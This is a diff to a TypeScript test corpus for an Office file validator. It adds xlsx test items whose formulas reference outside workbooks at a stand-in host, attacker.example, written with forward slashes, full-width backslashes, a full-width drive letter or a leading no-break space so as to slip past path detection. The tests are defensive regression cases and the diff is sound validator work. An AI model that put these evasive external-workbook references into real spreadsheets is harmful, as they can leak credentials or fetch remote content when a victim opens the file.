@@ -1249,6 +1249,7 @@ const officeItems: CorpusItem[] = [
   ...onlineVideoOfficeItems(),
   ...svgPictureOfficeItems(),
   ...decodedTargetOfficeItems(),
+  ...bookPathOfficeItems(),
 ];
 
 /** An Office item, declared as its id's first word says (a PPTX, not evidence, as a DOCX). */
@@ -3254,6 +3255,16 @@ export const ACTIVE_GENUINE: readonly {
         ['..\\资料\\表（一）.xlsx'],
       ),
   },
+  {
+    id: 'xlsx-brackets-without-book-path',
+    declared: 'xlsx',
+    // Brackets that name no outside workbook (round 12): a table's structured references, a sheet
+    // named with brackets, a book beside the workbook and one in a sibling folder.
+    bytes: () =>
+      sheetWithFormula(
+        "SUM(表1[金额])+表1[[#This Row],[单价]]+'第[1]季度'!A1+[b.xlsx]汇总!A1+'..\\资料\\[表.xlsx]汇总'!A1",
+      ),
+  },
 ];
 
 /**
@@ -3880,5 +3891,27 @@ function decodedTargetOfficeItems(): CorpusItem[] {
         ]),
       'OOXML_EXTERNAL',
     ),
+  ]);
+}
+
+/**
+ * References into another workbook whose path is a share or a URL that does not start with `\\`
+ * or a scheme's `:/` (round 12): two forward slashes, full-width backslashes, a full-width drive.
+ * The formula check found a path by those bytes only, so each was VALID; now the book's bracket
+ * finds the reference and its path is judged as followed. A no-break space before `\\host`
+ * (round 11's leftover) was refused already, the path found anywhere in the formula; it is kept
+ * here so it stays so.
+ */
+function bookPathOfficeItems(): CorpusItem[] {
+  const EXTERNAL = 'OOXML external';
+  const PATHS: Record<string, string> = {
+    'forward-slashes': "'//attacker.example/share/[b.xlsx]Sheet1'!A1",
+    'full-width-share': "'＼＼attacker.example＼share＼[b.xlsx]Sheet1'!A1",
+    'full-width-drive': "SUM('Ｃ：＼资料＼[b.xlsx]Sheet1'!A1:A9)",
+    'no-break-space-share': "'\u00a0\\\\attacker.example\\share\\[b.xlsx]Sheet1'!A1",
+  };
+  return Object.entries(PATHS).flatMap(([what, formula]) => [
+    item(`xlsx-book-reference-${what}`, EXTERNAL, () => sheetWithFormula(formula), 'OOXML_EXTERNAL'),
+    item(`xlsx-defined-name-book-reference-${what}`, EXTERNAL, () => definedNameFormula(formula), 'OOXML_EXTERNAL'),
   ]);
 }
